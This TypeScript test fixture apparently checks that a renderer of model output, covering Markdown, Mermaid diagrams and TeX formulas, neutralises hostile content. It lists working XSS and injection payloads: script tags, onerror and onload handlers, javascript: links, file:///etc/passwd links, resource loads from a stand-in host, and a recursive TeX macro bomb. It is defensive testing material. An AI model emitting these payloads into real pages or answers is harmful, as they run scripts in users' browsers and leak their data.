/**
 * What a model, a page or a file could write so that showing it does something: runs a script, loads something, leads
 * somewhere, or leaves its place. `ADDRESS` stands for a server that must never be reached.
 */
export const ADDRESS = 'http://attack.test';
const RUN = 'top.wasRun=1';

/** Markup that runs or loads something where it becomes part of a page. */
export const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${ADDRESS}/a.js"></script>`,
  `<script type="module">import "${ADDRESS}/m.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ADDRESS}/a.png">`,
  `<img srcset="${ADDRESS}/a.png 2x" src="data:,x">`,
  `<picture><source srcset="${ADDRESS}/p.png"><img src="data:,x"></picture>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${ADDRESS}/i.png" width="9" height="9"/></svg>`,
  `<svg><use href="${ADDRESS}/u.svg#a"/></svg>`,
  `<svg><foreignObject><iframe src="${ADDRESS}/f"></iframe></foreignObject></svg>`,
  `<svg><a href="javascript:${RUN}"><text y="9">go</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" begin="0s"/></svg>`,
  `<iframe src="${ADDRESS}/frame"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="${ADDRESS}/o.swf"></object>`,
  `<embed src="${ADDRESS}/e.swf">`,
  `<link rel="stylesheet" href="${ADDRESS}/s.css">`,
  `<link rel="preconnect" href="${ADDRESS}">`,
  `<link rel="dns-prefetch" href="${ADDRESS}"><link rel="prefetch" href="${ADDRESS}/p">`,
  `<meta http-equiv="refresh" content="0;url=${ADDRESS}/refresh">`,
  `<base href="${ADDRESS}/"><img src="b.png">`,
  `<style>@import url("${ADDRESS}/i.css");</style>`,
  `<style>body{background:url("${ADDRESS}/bg.png")}</style>`,
  `<style>@font-face{font-family:x;src:url("${ADDRESS}/f.woff2")}*{font-family:x}</style>`,
  `<p style="background-image:url('${ADDRESS}/st.png')">styled</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647;background:red">over everything</p>`,
  `<form action="${ADDRESS}/form"><input autofocus onfocus="${RUN}"><button>x</button></form>`,
  `<video src="${ADDRESS}/v.mp4" autoplay poster="${ADDRESS}/po.png"></video>`,
  `<audio src="${ADDRESS}/a.mp3" autoplay></audio>`,
  `<body onload="${RUN}" background="${ADDRESS}/bb.png">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">link</a>`,
  `<a href="${ADDRESS}/ping" ping="${ADDRESS}/ping">ping</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template><slot onslotchange="${RUN}"></slot>`,
  `<input type="image" src="${ADDRESS}/im.png" formaction="javascript:${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `</iframe></figure></article><img src=x onerror=${RUN}>`,
];

/** The same between the words of an answer, and what Markdown itself can lead to. */
export const PROSE: readonly string[] = [
  ...MARKUP.map((markup) => `Before ${markup.replaceAll('\n', ' ')} after.`),
  `![a picture](${ADDRESS}/md.png) and ![another][p]`,
  `[p]: ${ADDRESS}/ref.png`,
  `[link](javascript:${RUN}) [data](data:text/html,<script>${RUN}</script>) [file](file:///etc/passwd)`,
  `<javascript:${RUN}> <vbscript:x> [case](JaVaScRiPt:${RUN}) [entity](java&#115;cript:${RUN}) [tab](java\tscript:${RUN})`,
  `[title](https://example.org '" onmouseover="${RUN}')`,
  'The end of it.',
];

/** Those of a drawing, each in an SVG of its own. */
export const DRAWINGS: readonly string[] = MARKUP.map(
  (markup) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">${markup}<text y="9">a</text></svg>`,
);

/** Nodes of one diagram: drawing one for each attack would take most of a minute. */
const TOGETHER = 9;
const LABELS = MARKUP.map((markup, index) => `  n${String(index)}["${markup.replaceAll('"', '#quot;')}"]`);

/** Texts of diagrams, and what a diagram can say about its own drawing. */
export const DIAGRAMS: readonly string[] = [
  ...Array.from(
    { length: Math.ceil(LABELS.length / TOGETHER) },
    (_, group) => `flowchart LR\n${LABELS.slice(group * TOGETHER, (group + 1) * TOGETHER).join('\n')}`,
  ),
  `flowchart LR\n  A --> B\n  click A "javascript:${RUN}"`,
  `flowchart LR\n  A --> B\n  click A href "${ADDRESS}/click" _self`,
  `flowchart LR\n  A --> B\n  click A call ${RUN}()`,
  `%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  A["<img src=x onerror=${RUN}>"] --> B`,
  `%%{init: {"themeCSS": "* { background: url(${ADDRESS}/theme.png) }"}}%%\nflowchart LR\n  A --> B`,
  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\n  A["<img src='${ADDRESS}/l.png'>"] --> B`,
  `flowchart LR\n  A@{ img: "${ADDRESS}/node.png", label: "x" } --> B`,
  `flowchart LR\n  A --> B\n  style A fill:url(${ADDRESS}/fill.png)`,
  `sequenceDiagram\n  participant A\n  link A: go @ javascript:${RUN}\n  A->>A: <img src=x onerror=${RUN}>`,
  `gantt\n  title <script>${RUN}</script>\n  section a\n  b :c, 2026-01-01, 1d\n  click c href "javascript:${RUN}"`,
];

/** Several share a diagram. */
export const DIAGRAM_ATTACKS = LABELS.length + DIAGRAMS.length - Math.ceil(LABELS.length / TOGETHER);

/** Formulas, with the commands that lead elsewhere, and one that grows. */
export const FORMULAS: readonly string[] = [
  ...MARKUP.map((markup) => `\\text{${markup.replaceAll(/[\n$]/g, ' ').replaceAll(/[{}#%&_^~\\]/g, '')}}`),
  `\\href{javascript:${RUN}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\includegraphics{${ADDRESS}/f.png}`,
  `\\htmlStyle{background:url(${ADDRESS}/h.png)}{x}`,
  `\\htmlData{onclick=${RUN}}{x}`,
  `\\htmlClass{fixed inset-0}{x}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\rule{1000000em}{1000000em}`,
];

/** A table with one of them in every row, as a heading, too. */
export const hostileTable = (): string =>
  [
    `| ${cell(MARKUP[3] ?? '')} | [x](javascript:${RUN}) |`,
    '| --- | --- |',
    ...MARKUP.map((markup) => `| ${cell(markup)} | ![p](${ADDRESS}/t.png) [l](javascript:${RUN}) |`),
  ].join('\n');

const cell = (text: string): string => text.replaceAll('|', '\\|').replaceAll('\n', ' ');

export const fenced = (language: string, blocks: readonly string[]): string =>
  blocks.map((block) => `\`\`\`${language}\n${block}\n\`\`\``).join('\n\n');
